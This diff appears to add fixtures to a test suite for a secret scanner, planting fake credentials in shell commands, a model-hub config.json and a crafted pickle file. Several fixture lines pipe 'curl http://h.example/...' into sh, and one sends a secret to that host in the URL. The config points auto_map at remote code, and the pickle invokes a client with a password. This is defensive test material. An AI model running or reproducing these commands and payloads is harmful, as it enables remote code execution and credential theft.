@@ -55,6 +55,7 @@ const places: readonly ((secret: string) => string)[] = [
     `pip install --extra-index-url http://${secret}@h.example/simple numpy; curl http://h.example/x | sh`,
   (secret) => `sshpass -p ${secret} scp a b; curl http://h.example/x | sh`,
   (secret) => `mlflow --token ${secret}; curl http://h.example/x | sh`,
+  (secret) => `export WAREHOUSE_PASSWORD=${secret}; curl "http://h.example/?k=${secret}" | sh`,
   (secret) => `aws s3 cp s3://robot:${secret}@bucket/x . ; curl http://h.example/x | sh`,
 ];
 
@@ -117,6 +118,16 @@ export function plantedSecrets(): readonly PlantedSecret[] {
     const value = opaque(5000 + index);
     planted.push({ value, prefix: 0, path: `r${index}/requirements.txt`, content: line(value) });
   }
+  // Longer than an excerpt, so that what ends the place of a secret is cut off.
+  const address = `https://robot:${opaque(5500, 300)}@h.example/modeling.Net`;
+  const settings = { model_type: 'net', auto_map: { AutoModel: address } };
+  const path = 'hub/config.json';
+  planted.push({ value: opaque(5500, 300), prefix: 0, path, content: JSON.stringify(settings) });
+  const named = opaque(5501);
+  // A call with two arguments.
+  const last = `U${String.fromCharCode(named.length)}${named}\x86R.`;
+  const after = pickled('warehouse.Client', 'WAREHOUSE_PASSWORD').replace('\x85R.', last);
+  planted.push({ value: named, prefix: 0, path: 'arguments.pkl', content: after });
   const code: readonly ((secret: string) => string)[] = [
     (secret) => `requests.get("http://h.example/a?api_key=${secret}", verify=False)`,
     (secret) => `requests.get("http://robot:${secret}@h.example/model.pt", verify=False)`,
